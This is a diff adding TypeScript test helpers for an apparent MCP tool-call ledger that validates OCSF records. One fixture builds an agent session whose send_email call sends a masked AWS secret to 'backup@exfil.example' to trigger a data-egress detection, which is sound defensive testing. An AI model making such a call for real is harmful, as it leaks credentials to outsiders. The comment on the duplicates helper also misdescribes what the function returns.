@@ -1,0 +1,53 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { Ajv2020 } from 'ajv/dist/2020.js';
+import type { LedgerEvent } from '@mcp-ledger/events';
+import { sealSession, toolCallDrafts } from '../support/event-factory';
+
+const FIXTURES = join(__dirname, '..', 'fixtures', 'ocsf');
+const schema = (name: string) => JSON.parse(readFileSync(join(FIXTURES, name), 'utf8')) as Record<string, unknown>;
+
+const ajv = new Ajv2020({ allErrors: true, allowUnionTypes: true });
+const validators = {
+  6003: ajv.compile(schema('api_activity.schema.json')),
+  2004: ajv.compile(schema('detection_finding.schema.json')),
+};
+
+export interface OcsfRecord {
+  class_uid: number;
+  metadata: { uid: string; tenant_uid: string };
+  finding_info?: { uid: string; types: string[] };
+  [key: string]: unknown;
+}
+
+/** Validation errors of an OCSF record against its class's 1.8.0 schema; '' when valid. */
+export function ocsfErrors(record: OcsfRecord): string {
+  const validate = validators[record.class_uid as 6003 | 2004];
+  if (!validate) return `unexpected class_uid ${record.class_uid}`;
+  return validate(record) ? '' : `${record.class_uid} ${record.metadata?.uid}: ${ajv.errorsText(validate.errors)}`;
+}
+
+export const authHeaders = (): Record<string, string> =>
+  process.env['LEDGER_TOKEN'] ? { authorization: `Bearer ${process.env['LEDGER_TOKEN']}` } : {};
+
+/**
+ * A session of `calls` echo calls plus one send_email whose body carries a masked AWS
+ * secret, so the egress analyser raises a `sensitive_data_egress` finding about it.
+ */
+export function sessionWithFinding(tenant: string, sessionId: string, calls = 3, startMs?: number): LedgerEvent[] {
+  const drafts = [{ type: 'session.started', data: { 'mcp.protocol.version': '2025-06-18', client_info: { name: 'siem-client', version: '1' } } }];
+  for (let i = 0; i < calls; i++) drafts.push(...toolCallDrafts(`call-${i}`, 'echo', { text: `message ${i}` }, `echo ${i}`));
+  const args = { to: 'backup@exfil.example', body: 'aws_secret_access_key=[REDACTED:aws_secret_access_key]' };
+  drafts.push(...toolCallDrafts('call-send', 'send_email', args, 'sent'));
+  return sealSession(drafts, { tenant, sessionId, ...(startMs === undefined ? {} : { startMs }) });
+}
+
+export const lines = (body: string): string[] => body.split('\n').filter((line) => line !== '');
+
+/** Counts of each value: a value seen twice appears with 2. */
+export function duplicates(values: readonly string[]): string[] {
+  const seen = new Set<string>();
+  const twice = new Set<string>();
+  for (const value of values) (seen.has(value) ? twice : seen).add(value);
+  return [...twice];
+}
